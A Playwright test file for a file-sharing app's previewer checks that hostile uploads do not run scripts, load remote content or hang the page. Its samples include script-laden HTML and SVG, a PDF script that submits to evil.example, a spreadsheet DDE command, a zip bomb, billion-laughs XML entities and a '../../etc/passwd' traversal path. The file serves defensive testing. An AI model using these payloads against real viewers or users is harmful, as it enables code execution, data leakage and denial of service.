import { describe, expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { gone, seen, startJourney, until } from "../../support/browser/journey.ts";
import { makePng } from "../../support/files/media.ts";
import { makeDocx, makeWorkbook } from "../../support/files/office.ts";
import { makeEndlessPdf, makePdf } from "../../support/files/pdf.ts";
import { makeZip } from "../../support/files/zip.ts";
import { treeSeeds } from "../../support/tree/seeds.ts";

/** Files that were made to harm whoever looks at them. A request to another origin or an error on the page fails each test by itself. */

const journey = await startJourney();

const taken = "document.title='taken';window.taken=1";
const page = `<html><head><title>x</title><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<link rel="preconnect" href="https://evil.example"><base href="https://evil.example/"><style>@import "https://evil.example/b.css"; body { background: url(https://evil.example/c.png) }</style>
<script>${taken}</script></head><body onload="${taken}"><h1>A page</h1><img src="https://evil.example/d.png" onerror="${taken}"><img src=x onerror="${taken}">
<a href="javascript:${taken}">a link</a><a href="data:text/html,<script>${taken}</script>">another</a><a href="https://example.net/">the web</a>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><form action="https://evil.example/"><button>Send</button></form>
<svg><script>${taken}</script><image href="https://evil.example/e.png"/><use href="https://evil.example/f.svg#x"/></svg><video poster="https://evil.example/g.png" src="https://evil.example/h.mp4"></video></body></html>`;

async function open(content: BlobPart, name: string) {
  const { url } = await journey.shareFile(new File([content], name));
  const visit = await journey.visitor();
  await visit.page.goto(url);
  return visit;
}

const isTaken = (page: Page) => page.evaluate(() => "taken" in window || document.title === "taken");
/** Waits until the page and its frames have loaded what they want. */
const settled = (page: Page) =>
  until(
    () => Promise.all(page.frames().map((frame) => frame.evaluate(() => document.readyState))),
    (states) => states.every((state) => state === "complete"),
  );

describe("nothing of a file runs or asks anybody", () => {
  test("a page with scripts is shown as a page without them, and as its source", async () => {
    await using visit = await open(page, "page.html");
    const frame = visit.page.frameLocator("main iframe");
    await seen(frame.getByRole("heading", { name: "A page" }));
    await settled(visit.page);
    expect(await isTaken(visit.page)).toBe(false);
    expect(await frame.locator("script, iframe, object, form, link, meta[http-equiv=refresh]").count()).toBe(0);
    const links = await frame.locator("a").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect(links).toEqual([null, null, "https://example.net/"]);
    const sandbox = await visit.page.locator("main iframe").getAttribute("sandbox");
    expect(sandbox).not.toMatch(/scripts|same-origin|forms|top-navigation/);
    await visit.page.getByRole("button", { name: "Source" }).click();
    await seen(visit.page.locator("[data-line]", { hasText: "<script>" }).first());
  });

  test("a drawing with scripts is a picture", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${taken}"><script>${taken}</script><image href="https://evil.example/a.png"/><rect width="40" height="40"/></svg>`;
    await using visit = await open(svg, "drawing.svg");
    await seen(visit.page.getByRole("img", { name: "drawing.svg" }));
    await settled(visit.page);
    expect(await isTaken(visit.page)).toBe(false);
  });

  test("a PDF with JavaScript is read, its script is not run", async () => {
    const pdf = makePdf([{ lines: ["A harmless line"], link: "javascript:alert(1)" }], {
      script: "app.alert(1); this.submitForm('https://evil.example/');",
    });
    await using visit = await open(pdf, "script.pdf");
    visit.page.on("dialog", () => visit.problems.push("a dialog"));
    await seen(visit.page.getByText("A harmless line"));
    await settled(visit.page);
    expect(await visit.page.locator("[data-page] a").count()).toBe(0);
  });

  test("a document with pictures from elsewhere, links that run, and pages within it", async () => {
    const relation = (id: string, type: string, target: string) =>
      `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
    const body = `<w:p><w:hyperlink r:id="run"><w:r><w:t>runs</w:t></w:r></w:hyperlink><w:hyperlink r:id="web"><w:r><w:t>leads</w:t></w:r></w:hyperlink></w:p>
      <w:altChunk r:id="chunk"/><w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="pic" r:embed="pic"/></w:drawing></w:r></w:p>`;
    const relations = [
      relation("run", "hyperlink", "javascript:alert(1)"),
      relation("web", "hyperlink", "https://example.net/"),
      relation("pic", "image", "https://evil.example/track.png"),
      relation("chunk", "aFChunk", "https://evil.example/page.html"),
      relation("tpl", "attachedTemplate", "https://evil.example/t.dotm"),
    ].join("");
    await using visit = await open(makeDocx("Hostile", ["A paragraph."], { body, relations }), "hostile.docx");
    const frame = visit.page.frameLocator("main iframe");
    await seen(frame.getByText("A paragraph."));
    await settled(visit.page);
    const links = await frame.locator("a[href]").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect(links.filter((href) => href !== "")).toEqual(["https://example.net/"]);
  });

  test("formulas and markup in tables are text", async () => {
    const cells = ['=HYPERLINK("https://evil.example","x")', "=cmd|'/c calc'!A1", `<img src=x onerror="${taken}">`];
    await using visit = await open(makeWorkbook({ "<b>Sheet<b>": [cells] }), "formulas.xlsx");
    for (const cell of cells) await seen(visit.page.getByText(cell, { exact: true }));
    await seen(visit.page.getByRole("tab", { name: "<b>Sheet<b>" }));
    await using other = await open(
      `a,b,c\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",")}`,
      "formulas.csv",
    );
    for (const cell of cells) await seen(other.page.getByText(cell, { exact: true }));
    expect([await isTaken(visit.page), await isTaken(other.page)]).toEqual([false, false]);
  });

  test("code and JSON that would be markup are text", async () => {
    const attack = `</span><img src=x onerror="${taken}"><script>${taken}</script>`;
    await using visit = await open(`const a = "${attack}"; // ${attack}\n`, "attack.js");
    await seen(visit.page.locator(".hljs-comment"));
    await using other = await open(JSON.stringify({ [attack]: attack, __proto__: 1 }), "attack.json");
    await seen(other.page.getByText(attack, { exact: false }).first());
    expect([await isTaken(visit.page), await isTaken(other.page)]).toEqual([false, false]);
  });

  test("a playlist that leads elsewhere is not followed", async () => {
    const list = "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nhttps://evil.example/part.ts\n#EXT-X-ENDLIST\n";
    await using visit = await open(list, "film.m3u8");
    await seen(visit.page.getByText("This is a playlist whose parts are not in this share", { exact: false }));
  });
});

describe("nothing hangs the page", () => {
  const said = (page: Page, words: string | RegExp) => seen(page.getByText(words));

  test.each([
    ["broken.pdf", "%PDF-1.7\nthis is none", /damaged, or is not what its name says/],
    ["broken.docx", "PK\x03\x04 this is none", /damaged, or is not what its name says/],
    ["none.docx", "this is none", /damaged, or is not what its name says/],
    ["broken.zip", "PK\x03\x04 this is none", /damaged, or is not what its name says/],
    ["broken.xlsx", "PK\x03\x04 this is none", /damaged, or is not what its name says/],
    ["broken.json", '{"a": ', /This is not valid JSON/],
    ["broken.png", "\x89PNG\r\n\x1a\nno", /cannot show this picture/],
    ["broken.mp4", "no film", /cannot play this format/],
  ] as const)("%s is said to be what it is, and can be downloaded", async (name, content, words) => {
    await using visit = await open(Buffer.from(content, "latin1"), name);
    await said(visit.page, words);
    expect(await visit.page.getByRole("link", { name: "Download" }).isVisible()).toBe(true);
  });

  test("a picture of 300 million pixels is not drawn", async () => {
    await using visit = await open(makePng(20_000, 15_000), "huge.png");
    await said(visit.page, /too large or too complex/);
    expect(await visit.page.locator("main img").count()).toBe(0);
  });

  describe("drawings of references to references, of which a kilobyte is a billion elements", () => {
    const groups = Array.from({ length: 9 }, (_, at) => `<g id="a${at + 1}">${`<use href="#a${at}"/>`.repeat(10)}</g>`);
    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><g id="a0"><rect width="9" height="9"/></g>${groups.join("")}</svg>`;
    const light = '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><rect width="90" height="60"/></svg>';

    test("are not drawn on their page", async () => {
      await using visit = await open(drawing, "tower.svg");
      await said(visit.page, /may keep the page busy/);
      expect(await visit.page.getByRole("link", { name: "Download" }).isVisible()).toBe(true);
    });

    test("are drawn by who wants it, when that can be done at all", async () => {
      const many = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60">${"<g/>".repeat(100_001)}<rect width="90" height="60"/></svg>`;
      await using visit = await open(many, "many.svg");
      await said(visit.page, /may keep the page busy/);
      await visit.page.getByRole("button", { name: "Show anyway" }).click();
      await seen(visit.page.getByRole("img", { name: "many.svg" }));
    });

    test("are not drawn in a folder, nor is a picture of 300 million pixels", async () => {
      const seeds = treeSeeds(journey);
      await seeds.folder("/drive/harm");
      await seeds.file("/drive/harm/1 light.svg", Buffer.from(light), "image/svg+xml");
      await seeds.file("/drive/harm/2 tower.svg", Buffer.from(drawing), "image/svg+xml");
      await seeds.file("/drive/harm/3 huge.png", makePng(20_000, 15_000), "image/png");
      await using visit = await journey.admin();
      const { page } = visit;
      await page.goto("/mount-explorer/drive/harm");
      await page.getByRole("button", { name: "Gallery" }).click();
      const tile = (name: string) => page.getByRole("option", { name });
      await seen(tile("1 light.svg").locator("img"));
      for (const name of ["2 tower.svg", "3 huge.png"]) await seen(tile(name).locator("svg").first());
      expect(await page.locator("[role=option] img").count()).toBe(1);
      await page.getByRole("button", { name: "Grid" }).click();
      await seen(page.getByRole("gridcell", { name: "1 light.svg" }).locator("img"));
      await page.goto("/mount-explorer/drive/harm?preview=1 light.svg");
      await page.getByRole("button", { name: "Enlarge 1 light.svg" }).click();
      await seen(page.getByRole("dialog", { name: "1 light.svg" }).locator("img"));
      for (const name of ["2 tower.svg", "3 huge.png"]) {
        await page.keyboard.press("ArrowRight");
        await seen(page.getByRole("dialog", { name }).getByText(/too large or too complex/));
      }
    });
  });

  test("a diagram is drawn as its program wrote it, with labels in HTML, and loads nothing", async () => {
    const label = (at: number) =>
      `<g><foreignObject width="100%" height="100%" style="overflow: visible"><div xmlns="http://www.w3.org/1999/xhtml" style="display: flex; width: 90px; padding-top: ${at * 20}px"><div>Step ${at}</div></div></foreignObject></g>`;
    const icon = btoa(
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
    );
    const diagram = `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="600"><style>@import url(https://evil.example/font.css);</style>${Array.from({ length: 30 }, (_, at) => label(at)).join("")}<image width="9" height="9" xlink:href="data:image/svg+xml;base64,${icon}"/></svg>`;
    await using visit = await open(diagram, "diagram.drawio.svg");
    const picture = visit.page.getByRole("img", { name: "diagram.drawio.svg" });
    await seen(picture);
    expect(await picture.evaluate((image) => (image as HTMLImageElement).naturalHeight)).toBe(600);
  });

  test("a PDF that has the same page a million times shows some of them", async () => {
    await using visit = await open(makeEndlessPdf(6), "endless.pdf");
    await said(visit.page, /of 1,000,000 pages are shown/);
    await seen(visit.page.getByText("The one page").first());
  });

  test("a page of millions of elements is left to its source", async () => {
    await using visit = await open("<i>x".repeat(2_000_000), "many.html");
    await said(visit.page, /too large or too complex to be laid out/);
    await visit.page.getByRole("button", { name: "Source" }).click();
    await seen(visit.page.locator("[data-line]").first());
  });

  test("a page that a parser makes millions of elements of, or that is very deep, is left to its source", async () => {
    const again = `<p>${Array.from({ length: 1000 }, (_, at) => `<b c${at}><!--</b>-->`).join("")}${"<p>x".repeat(1000)}`;
    for (const [name, content] of [
      ["again.html", again],
      ["deep.html", "<div>".repeat(50_000)],
    ] as const) {
      await using visit = await open(content, name);
      await said(visit.page, /too large or too complex to be laid out/);
    }
  });

  test("a page that draws masks in masks is left to its source", async () => {
    const masks = Array.from(
      { length: 8 },
      (_, at) => `<mask id="m${at + 1}">${`<rect mask="url(#m${at})"/>`.repeat(10)}</mask>`,
    );
    await using visit = await open(`<h1>x</h1><svg>${masks.join("")}<rect mask="url(#m8)"/></svg>`, "masks.html");
    await said(visit.page, /too large or too complex to be laid out/);
  });

  test("JSON of millions of numbers shows the first", async () => {
    await using visit = await open(`[${"1,".repeat(4_000_000)}12345678901234567890]`, "numbers.json");
    await seen(visit.page.getByText("0 … 99", { exact: true }));
    await visit.page.getByRole("button", { name: "4000000 … 4000000" }).click();
    await said(visit.page, "12345678901234567890");
  });

  test("office files that unpack to more than a page can bear are given up, whatever they say of their size", async () => {
    const zeros = Buffer.alloc(250 * 1024 * 1024);
    const liar = makeZip({ "word/document.xml": zeros }, { claimedSize: 1000 });
    await using visit = await open(liar, "bomb.docx");
    await said(visit.page, /too large to be shown here|damaged/);
    const honest = makeZip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": zeros });
    await using other = await open(honest, "bomb.xlsx");
    await said(other.page, /too large to be shown here/);
  });

  test("XML entities that grow are refused", async () => {
    const entities = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${"a".repeat(1000)}"><!ENTITY b "${"&a;".repeat(1000)}">]><w:document>&b;</w:document>`;
    await using visit = await open(makeZip({ "word/document.xml": entities }), "entities.docx");
    await said(visit.page, /damaged/);
  });

  test("an entry of an archive that unpacks to more than it may is not taken out, and paths that lead out are names", async () => {
    const entries = { "../../etc/passwd": "root", "bomb.bin": Buffer.alloc(600 * 1024 * 1024) };
    await using visit = await open(makeZip(entries), "paths.zip");
    const files = visit.page.getByRole("list", { name: "Files in paths.zip" });
    await visit.page.getByRole("button", { name: "Extract bomb.bin" }).click();
    await said(visit.page, /too large to extract/);
    for (const folder of ["..", "..", "etc"]) await files.getByTitle(folder, { exact: true }).click();
    const [download] = await Promise.all([
      visit.page.waitForEvent("download"),
      visit.page.getByRole("button", { name: "Extract passwd" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("passwd");
    await gone(visit.page.getByText(/too large to extract/));
  });

  test("a table in one line of megabytes is shown by its beginning", async () => {
    const bytes = 5 * 1024 * 1024;
    await using cell = await open("x".repeat(bytes), "cell.csv");
    await seen(cell.page.getByRole("columnheader").first());
    expect(await cell.page.getByRole("columnheader").allInnerTexts()).toEqual([`${"x".repeat(1000)}…`]);
    await using columns = await open("x,".repeat(bytes / 2), "columns.csv");
    await seen(columns.page.getByText("Only part of it is shown here"));
    expect(await columns.page.getByRole("columnheader").count()).toBe(200);
  });

  test("code that keeps its grammar busy, and JSON that is very deep, leave the page alive", async () => {
    const text = `${"<a ".repeat(60_000)}\n${"(".repeat(100_000)}`;
    await using visit = await open(text, "busy.xml");
    await seen(visit.page.locator("[data-line]").first());
    await using deep = await open(`${"[".repeat(200_000)}${"]".repeat(200_000)}`, "deep.json");
    await seen(deep.page.getByText("[", { exact: false }).first());
    const alive = await until(
      () => deep.page.evaluate(() => 1 + 1),
      (sum) => sum === 2,
    );
    expect(alive).toBe(2);
  });
});
